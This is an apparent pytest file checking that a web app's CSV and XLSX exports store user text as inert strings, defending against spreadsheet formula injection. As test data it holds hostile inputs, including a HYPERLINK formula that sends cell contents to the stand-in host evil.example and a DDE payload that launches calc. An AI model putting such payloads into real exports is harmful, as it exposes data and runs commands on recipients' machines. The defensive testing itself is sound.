"""No formula from a user reaches a spreadsheet live (OWASP "CSV injection"): every XLSX cell holding someone's text is
a string, never a formula, and every CSV field that starts with = + - @ tab or CR is written behind an apostrophe.
One helper (webapp/core/spreadsheets.py) writes every export, so a new one cannot forget it."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from tests.forum_helpers import both_consents, delegate_id, plan_forum, register_child
from tests.test_reports_indicators import known_activities, plan2023  # noqa: F401  (fixtures)
from webapp.activities.models import Activity
from webapp.core import spreadsheets
from webapp.extensions import db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def live_formulas(body: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(body))
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in book for row in ws.iter_rows() for c in row
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))
            and c.data_type != "s"]


def text_cells(body: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(body))
    return [c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def csv_fields(body: bytes) -> list[str]:
    return [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row]


def test_the_helper_writes_text_as_text():
    rows = [["name", "n"], *[[text, 5] for text in HOSTILE], ["Vừ Thị Mai", -3], ["a\x01b\x00", None]]
    fields = csv_fields(spreadsheets.csv_bytes(rows))
    assert not [f for f in fields if f.startswith(STARTS) and f != "-3"]
    assert "'" + FORMULA in fields and "Vừ Thị Mai" in fields and "-3" in fields  # numbers stay numbers
    body = spreadsheets.xlsx_bytes([("Sheet", rows)])
    assert not live_formulas(body)
    book = load_workbook(io.BytesIO(body))
    cells = {c.value: c for row in book.active.iter_rows() for c in row}
    assert FORMULA in cells and cells[FORMULA].data_type == "s"  # shown exactly as typed, as text
    assert cells[FORMULA].quotePrefix  # and stays text when someone edits the cell
    assert cells[-3].data_type == "n"


def test_a_childs_name_as_a_formula_is_text_in_the_delegate_list(login_as, client, places):
    login_as("officer_A")
    forum = plan_forum(client, places["A"].id)
    child = register_child(client, places["village_A"].id, FORMULA, 12)
    both_consents(client, delegate_id(client, forum, child))
    body = client.get(f"/forum/{forum}/delegates.xlsx").data
    assert FORMULA in text_cells(body)
    assert not live_formulas(body)


def test_an_entered_figures_source_as_a_formula_is_text_in_the_report(login_as, client, places, plan2023):  # noqa: F811
    login_as("admin")
    url = f"/reports/{plan2023['half_year']}/units/{places['province'].id}"
    assert client.submit(f"{url}/values/T1", {"value": "3,6", "source": FORMULA}).status_code == 303
    body = client.get(f"{url}/report.xlsx").data
    assert FORMULA in text_cells(body)
    assert not live_formulas(body)


@pytest.mark.parametrize("text", HOSTILE)
def test_activity_exports_write_what_was_typed_as_text(app, login_as, client, places, plan2023,  # noqa: F811
                                                      known_activities, text):  # noqa: F811
    with app.app_context():
        db.session.execute(update(Activity).values(venue=text))
        db.session.commit()
    login_as("officer_B")
    csv_body = client.get(f"/reports/activities.csv?period={plan2023['half_year']}").data
    fields = csv_fields(csv_body)
    assert "'" + text in fields
    assert not [f for f in fields if f.startswith(STARTS)]
    xlsx_body = client.get(f"/reports/activities.xlsx?period={plan2023['half_year']}").data
    assert not live_formulas(xlsx_body)
    assert text in text_cells(xlsx_body)


def test_every_export_uses_the_one_helper():
    """No module but the helper builds a workbook or writes CSV itself."""
    root = Path(__file__).resolve().parents[2] / "webapp"
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter")
    found = [f"{path.relative_to(root)}:{n}" for path in root.rglob("*.py") if path.name != "spreadsheets.py"
             for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if writers.search(line)]
    assert not found, f"exports that write a spreadsheet without webapp/core/spreadsheets.py: {found}"
